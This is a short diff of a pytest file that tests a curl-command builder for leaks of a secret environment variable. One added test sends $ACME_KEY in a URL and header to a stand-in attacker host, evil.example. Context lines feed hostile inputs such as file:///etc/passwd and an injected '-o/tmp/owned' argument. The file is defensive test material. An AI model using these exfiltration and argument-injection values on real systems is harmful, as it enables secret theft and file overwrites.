@@ -160,6 +160,12 @@ def test_the_variable_is_not_sent_to_an_origin_that_the_contract_does_not_name(a
     assert "$ACME_KEY" in curl_command(moved, loaded, key_origins=there)
 
 
+def test_a_strangers_text_that_names_the_variable_is_not_expanded_elsewhere(asked):
+    request = Request(method="GET", url="https://evil.example/?x=$ACME_KEY", headers=(("X-A", "$ACME_KEY"),))
+    arguments = echoed(curl_command(request, asked()[1]))
+    assert arguments[2:] == ["https://evil.example/?x=$ACME_KEY", "-H", "X-A: $ACME_KEY"]
+
+
 @pytest.mark.parametrize("url", ["file:///etc/passwd", "-o/tmp/owned", "https://user@api.acme.test/", "https://a b/\n"])
 def test_no_command_is_shown_for_what_is_not_a_url(asked, url):
     assert curl_command(Request(method="GET", url=url), asked()[1]) is None
